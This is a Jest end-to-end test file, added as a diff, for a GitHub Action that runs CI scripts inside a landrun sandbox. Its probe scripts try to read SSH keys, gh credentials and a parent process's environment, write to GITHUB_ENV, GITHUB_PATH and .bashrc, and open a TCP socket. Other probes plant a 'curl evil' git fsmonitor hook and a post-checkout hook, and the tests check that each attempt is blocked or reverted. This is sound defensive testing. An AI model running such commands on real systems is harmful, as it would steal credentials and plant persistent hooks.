@@ -1,0 +1,234 @@
+// The Action end to end: @github/local-action runs src/action/main.ts (then post) from action.yml
+// against a temporary runner layout; shell mode is driven the way the runner drives it; the
+// committed bundles are run the way the runner runs them (node dist/..., INPUT_* variables).
+import { afterAll, describe, expect, it } from '@jest/globals';
+import { spawnSync } from 'node:child_process';
+import { existsSync, readdirSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { ROOT, removeDir } from '../helpers/run.js';
+import { localAction, makeRunnerLayout, read, TOKEN, type RunnerLayout } from '../helpers/runner-layout.js';
+
+const layouts: RunnerLayout[] = [];
+const layout = (checkout: 'v4' | 'v6' = 'v4'): RunnerLayout => {
+  const l = makeRunnerLayout({ checkout });
+  layouts.push(l);
+  return l;
+};
+afterAll(() => layouts.forEach((l) => removeDir(l.root)));
+
+const lines = (out: string, prefix: string): string[] =>
+  out
+    .split('\n')
+    .filter((l) => l.startsWith(prefix))
+    .map((l) => l.slice(prefix.length));
+
+describe('run mode (local-action)', () => {
+  it('runs the script: workspace and TMPDIR writable; file commands, HOME, tool cache, _actions and secrets are not', async () => {
+    const l = layout('v4');
+    const script = [
+      'set +e +o pipefail # probes report their own failures',
+      'echo "P:hello"',
+      'echo data > built.txt && echo "P:workspace-write ok"',
+      'echo t > "$TMPDIR/t" && echo "P:tmpdir-write ok"',
+      'echo "P:tmpdir $TMPDIR"',
+      'echo "NEW=1" >> "$GITHUB_ENV" 2>/dev/null || echo "P:github-env denied"',
+      'echo "/evil" >> "$GITHUB_PATH" 2>/dev/null || echo "P:github-path denied"',
+      'echo x >> ~/.bashrc 2>/dev/null || echo "P:bashrc denied"',
+      `echo x > ${l.toolCache}/node/24.0.0/x64/bin/tool 2>/dev/null || echo "P:toolcache denied"`,
+      `echo x > ${l.actionsDir}/index.js 2>/dev/null || echo "P:actions denied"`,
+      'cat ~/.ssh/id_rsa 2>/dev/null || echo "P:ssh denied"',
+      'cat ~/.config/gh/hosts.yml 2>/dev/null || echo "P:gh denied"',
+      'echo "P:other $(cat ~/.config/other/settings)"',
+      'echo "P:gitconfig $(git config --global user.name)"',
+      'env | grep -E "^(ACTIONS_RUNTIME_TOKEN|ACTIONS_ID_TOKEN_REQUEST_TOKEN|INPUT_)" | cut -d= -f1 | sed "s/^/P:leaked /"',
+      'echo "P:token-in-config $(git config --get-all http.https://github.com/.extraheader | wc -l)"',
+      'grep -c "AUTHORIZATION" .git/config | sed "s/^/P:auth-lines /"',
+      'cat /proc/$PPID/environ >/dev/null 2>&1 || echo "P:parent-environ denied"',
+      'echo "P:git-status $(git status --porcelain | tr "\\n" " ")"',
+    ].join('\n');
+    const r = await localAction(l, l.env({ INPUT_RUN: script, ACTIONS_RUNTIME_TOKEN: 'runtime-secret', ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'id-secret' }));
+    const p = lines(r.stdout, 'P:');
+    expect(p).toEqual(
+      expect.arrayContaining([
+        'hello',
+        'workspace-write ok',
+        'tmpdir-write ok',
+        'github-env denied',
+        'github-path denied',
+        'bashrc denied',
+        'toolcache denied',
+        'actions denied',
+        'ssh denied',
+        'gh denied',
+        'other visible=yes',
+        'gitconfig runner',
+        'token-in-config 0',
+        'auth-lines 0',
+        'parent-environ denied',
+        'git-status ?? built.txt ',
+      ]),
+    );
+    expect(p.filter((x) => x.startsWith('leaked'))).toEqual([]);
+    expect(r.failed).toBeUndefined();
+    expect(r.outputs).toMatchObject({ 'exit-code': '0', status: 'full' });
+    expect(Number(r.outputs.abi)).toBeGreaterThanOrEqual(1);
+    // afterwards: the workspace file is there, the private TMPDIR is gone, nothing else changed
+    expect(read(join(l.workspace, 'built.txt'))).toBe('data\n');
+    const tmpdir = p.find((x) => x.startsWith('tmpdir /'))?.slice('tmpdir '.length) as string;
+    expect(tmpdir.startsWith(l.runnerTemp)).toBe(true);
+    expect(existsSync(tmpdir)).toBe(false);
+    expect(read(l.files.env)).toBe('');
+    expect(read(l.files.path)).toBe('');
+    expect(read(join(l.home, '.bashrc'))).toBe('# bashrc\n');
+    expect(read(join(l.actionsDir, 'index.js'))).toBe('// checkout\n');
+    // the token is back in .git/config
+    expect(read(join(l.workspace, '.git', 'config'))).toContain(`extraheader = AUTHORIZATION: basic ${Buffer.from(`x-access-token:${TOKEN}`).toString('base64')}`);
+    // the log names the removed variables, never their values
+    expect(r.stdout).toMatch(/not passed to the script: ACTIONS_ID_TOKEN_REQUEST_TOKEN, ACTIONS_RUNTIME_TOKEN, INPUT_RUN/);
+    expect(r.stdout).not.toContain('runtime-secret');
+    // the job summary holds the report and the local reproduction command
+    const summary = read(l.files.summary);
+    expect(summary).toContain('### landrun sandbox');
+    expect(summary).toMatch(/\| status \| 🟢 full \|/);
+    expect(summary).toMatch(/\| exit code \| 0 \|/);
+    expect(summary).toContain('npx landrun-action --preset ci -- bash --noprofile --norc -eo pipefail -c');
+  }, 60000);
+
+  it('checkout v6: the credentials include is withheld, git keeps working, and it is restored', async () => {
+    const l = layout('v6');
+    const script = [
+      'set +e +o pipefail',
+      'git log --oneline | sed "s/^[0-9a-f]* /P:log /"',
+      'echo "P:includes $(grep -c git-credentials .git/config)"',
+      `cat ${l.credentialsFile} 2>/dev/null || echo "P:credentials denied"`,
+      'git config --get http.https://github.com/.extraheader || echo "P:no extraheader"',
+    ].join('\n');
+    const r = await localAction(l, l.env({ INPUT_RUN: script }));
+    expect(lines(r.stdout, 'P:')).toEqual(['log init', 'includes 0', 'credentials denied', 'no extraheader']);
+    expect(r.failed).toBeUndefined();
+    expect(read(join(l.workspace, '.git', 'config'))).toContain(`path = ${l.credentialsFile}`);
+  }, 60000);
+
+  it('checkout-credentials: keep leaves the token usable', async () => {
+    const l = layout('v6');
+    const r = await localAction(l, l.env({ INPUT_RUN: 'git config --get http.https://github.com/.extraheader | cut -c1-20 | sed "s/^/P:/"', 'INPUT_CHECKOUT-CREDENTIALS': 'keep' }));
+    expect(lines(r.stdout, 'P:')).toEqual(['AUTHORIZATION: basic']);
+  }, 60000);
+
+  it('fails the step and restores .git/config and hooks when the script changes them', async () => {
+    const l = layout('v4');
+    const before = read(join(l.workspace, '.git', 'config'));
+    const script = 'git config core.fsmonitor "curl evil"; printf "#!/bin/sh\\nexit 0\\n" > .git/hooks/post-checkout; echo "P:done"';
+    const r = await localAction(l, l.env({ INPUT_RUN: script }));
+    expect(lines(r.stdout, 'P:')).toEqual(['done']);
+    expect(r.failed).toBe('the script changed protected git files (restored): .git/config, .git/hooks/post-checkout');
+    expect(read(join(l.workspace, '.git', 'config'))).toBe(before);
+    expect(existsSync(join(l.workspace, '.git', 'hooks', 'post-checkout'))).toBe(false);
+    expect(existsSync(join(l.workspace, '.git', 'hooks', 'pre-commit.sample'))).toBe(true);
+  }, 60000);
+
+  it('passes the exit code on, fails the step, and kills what the script left running', async () => {
+    const l = layout('v4');
+    const r = await localAction(l, l.env({ INPUT_RUN: 'sleep 600 &\necho $! > "$GITHUB_WORKSPACE/bg.pid"\nexit 3' }));
+    expect(r.outputs['exit-code']).toBe('3');
+    expect(r.failed).toBe('the script exited with 3');
+    expect(r.stdout).toMatch(/killed 1 process\(es\) the script left running/);
+    const pid = Number(read(join(l.workspace, 'bg.pid')));
+    expect(existsSync(`/proc/${pid}`) && !read(`/proc/${pid}/stat`).includes(') Z ')).toBe(false);
+  }, 60000);
+
+  it('grants what the inputs add, and nothing of the network by default', async () => {
+    const l = layout('v4');
+    const extra = join(l.root, 'extra');
+    spawnSync('mkdir', ['-p', extra]);
+    const script = `echo x > ${extra}/f && echo "P:extra ok"\n(exec 3<>/dev/tcp/127.0.0.1/9) 2>/dev/null || echo "P:tcp denied"`;
+    const r = await localAction(l, l.env({ INPUT_RUN: script, INPUT_RW: extra }));
+    expect(lines(r.stdout, 'P:')).toEqual(['extra ok', 'tcp denied']);
+  }, 60000);
+
+  const badInputs: Array<[string, Record<string, string>, RegExp]> = [
+    ['unknown preset', { INPUT_PRESET: 'lax' }, /invalid input preset: 'lax': expected one of ci, none/],
+    ['bad port', { 'INPUT_CONNECT-TCP': '443, 99999' }, /invalid port '99999' in input connect-tcp/],
+    ['relative path escaping the workspace', { INPUT_RW: '../../..' }, /input rw: relative path '\.\.\/\.\.\/\.\.' resolves to .*, outside the workspace/],
+    ['missing path', { INPUT_RO: '/no/such/dir' }, /path '\/no\/such\/dir' in input ro: \/no\/such\/dir does not exist/],
+    ['bad boolean', { 'INPUT_BEST-EFFORT': 'maybe' }, /invalid input best-effort: 'maybe'/],
+  ];
+  it.each(badInputs)('bad input (%s) fails the step with a clear message and runs nothing', async (_n, inputs, message) => {
+    const l = layout('v4');
+    const r = await localAction(l, l.env({ INPUT_RUN: 'touch "$GITHUB_WORKSPACE/ran"', ...inputs }));
+    expect(r.failed).toMatch(message);
+    expect(existsSync(join(l.workspace, 'ran'))).toBe(false);
+  }, 60000);
+});
+
+describe('shell mode', () => {
+  // The setup and post steps run as the runner runs them (the bundles, real @actions/core), since
+  // shell mode lives in GITHUB_PATH and GITHUB_STATE, which local-action keeps in memory.
+  it('sets up landrun-shell; later steps run sandboxed; post writes one summary of every step', async () => {
+    const l = layout('v4');
+    const setup = spawnSync(process.execPath, [join(ROOT, 'dist', 'action-main', 'index.js')], {
+      cwd: l.workspace,
+      env: l.env({ INPUT_RUN: '', ACTIONS_RUNTIME_TOKEN: 'runtime-secret', GITHUB_ACTION_PATH: ROOT }),
+      encoding: 'utf8',
+    });
+    expect(setup.stdout).not.toContain('::error::');
+    expect(setup.status).toBe(0);
+    const binDir = read(l.files.path).trim();
+    expect(existsSync(join(binDir, 'landrun-shell'))).toBe(true);
+    expect(read(l.files.output)).toContain(join(binDir, 'landrun-shell'));
+    const stateDir = /landrun-shell-state<<(\S+)\n(.*)\n/.exec(read(l.files.state))?.[2];
+    expect(stateDir).toBeDefined();
+
+    // The runner: resolve the shell program through PATH (with the GITHUB_PATH prepend), run it with
+    // the script file, in the workspace, with a run step's environment.
+    const stepEnv = l.env({ PATH: `${binDir}:${process.env.PATH}`, GITHUB_ACTION: '__run_2' });
+    const step = (name: string, body: string) => {
+      const file = join(l.runnerTemp, name);
+      writeFileSync(file, body);
+      return spawnSync('landrun-shell', [file], { cwd: l.workspace, env: stepEnv, encoding: 'utf8', shell: false });
+    };
+    const ok = step(
+      'step-a',
+      ['echo "P:in-step"', 'echo x > built && echo "P:ws ok"', 'echo "X=1" >> "$GITHUB_ENV" || echo "P:env denied"', 'cat ~/.ssh/id_rsa || echo "P:ssh denied"', 'echo "P:token $(git config --get-all http.https://github.com/.extraheader | wc -l)"'].join('\n'),
+    );
+    expect(lines(ok.stdout, 'P:')).toEqual(['in-step', 'ws ok', 'env denied', 'ssh denied', 'token 0']);
+    expect(ok.status).toBe(0);
+    const failing = step('step-b', 'echo "P:b"\nexit 4\n');
+    expect(failing.status).toBe(4);
+    const tamper = step('step-c', 'echo "[core]\n\tfsmonitor = evil" >> .git/config\n');
+    expect(tamper.status).toBe(1);
+    expect(tamper.stderr).toContain('the script changed protected git files (restored): .git/config');
+    expect(read(l.files.env)).toBe('');
+    expect(read(join(l.workspace, '.git', 'config'))).toContain('extraheader = AUTHORIZATION');
+    expect(read(join(l.workspace, '.git', 'config'))).not.toContain('fsmonitor');
+
+    // The post step, as the runner runs it: the bundle, with the saved state in STATE_*.
+    const post = spawnSync(process.execPath, [join(ROOT, 'dist', 'action-post', 'index.js')], {
+      env: l.env({ [`STATE_landrun-shell-state`]: stateDir as string }),
+      encoding: 'utf8',
+    });
+    expect(post.status).toBe(0);
+    const summary = read(l.files.summary);
+    expect(summary).toContain('### landrun shell mode');
+    expect(summary).toMatch(/\| __run_2: echo "P:in-step" \| 0 \| [\d.]+ s \| full \|/);
+    expect(summary).toMatch(/\| __run_2: echo "P:b" \| 4 \|/);
+    expect(summary).toMatch(/changed git files \(restored\): \.git\/config/);
+    expect(existsSync(join(stateDir as string, 'steps'))).toBe(false);
+  }, 90000);
+});
+
+describe('the committed bundle, as the runner runs it', () => {
+  it('node dist/action-main/index.js with INPUT_* runs the script and writes outputs to GITHUB_OUTPUT', () => {
+    const l = layout('v4');
+    const r = spawnSync(process.execPath, [join(ROOT, 'dist', 'action-main', 'index.js')], {
+      cwd: l.workspace,
+      env: l.env({ INPUT_RUN: 'echo bundled; exit 5', INPUT_SHELL: 'bash', INPUT_PRESET: 'ci', GITHUB_ACTION_PATH: ROOT }),
+      encoding: 'utf8',
+    });
+    expect(r.stdout).toContain('bundled\n');
+    expect(r.stdout).toContain('::error::the script exited with 5');
+    expect(r.status).toBe(1);
+    expect(read(l.files.output)).toMatch(/exit-code<<(\S+)\n5\n\1/);
+    expect(readdirSync(join(l.runnerTemp, 'landrun'))).toEqual([]);
+  });
+});
